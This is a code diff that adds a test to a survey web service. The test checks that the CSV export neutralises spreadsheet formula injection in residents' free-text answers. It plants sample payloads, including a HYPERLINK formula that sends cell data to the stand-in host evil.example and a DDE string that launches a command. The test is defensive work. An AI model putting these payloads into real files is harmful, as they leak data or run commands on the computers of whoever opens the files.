@@ -268,3 +268,35 @@ async def test_a_condition_must_name_an_answer_the_earlier_question_has(
     reachable = {**why, "show_if": {"question": "mode", "any_of": ["bike"]}}
     ok = await client.post(f"{BASE}/surveys", json={"title": t("S"), "questions": [mode, reachable]}, headers=staff)
     assert ok.status_code == 201, ok.text
+
+
+async def test_csv_export_neutralises_formulas(
+    client: AsyncTestClient[Litestar], sessions: async_sessionmaker[AsyncSession]
+) -> None:
+    """Any resident can type a formula into a free-text answer; the staff's spreadsheet must show it
+    as text (OWASP: a cell starting with = + - @ tab or CR gets a leading single quote)."""
+    staff = await staff_headers(client, sessions, grants=EDITOR)
+    questions = [{"id": "note", "kind": "free_text", "text": t("Anmerkung"), "max_length": 200}]
+    survey_id = await create_survey(client, staff, questions=questions)
+    planted = [
+        '=HYPERLINK("https://evil.example/?x="&A1,"Klick")',
+        "=cmd|' /C calc'!A0",
+        "+1+1",
+        "-2+3",
+        "@SUM(1,2)",
+        "\t=1+1",
+        "\r=1+1",
+        "\uff1d1+1",  # fullwidth equals sign, which some spreadsheet programs treat as "="
+        "Radweg = gut",  # not at the start: unchanged
+    ]
+    for text_answer in planted:
+        _, device = await register_device(client)
+        response = await client.post(
+            f"{BASE}/surveys/{survey_id}/responses", json={"answers": {"note": text_answer}}, headers=device
+        )
+        assert response.status_code == 201, response.text
+    exported = await client.get(f"{BASE}/surveys/{survey_id}/responses.csv", headers=staff)
+    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"), newline="")))
+    cells = sorted(row[0] for row in rows[1:])
+    expected = sorted(("'" + a) if a[0] in "=+-@\t\r\uff1d" else a for a in planted)
+    assert cells == expected
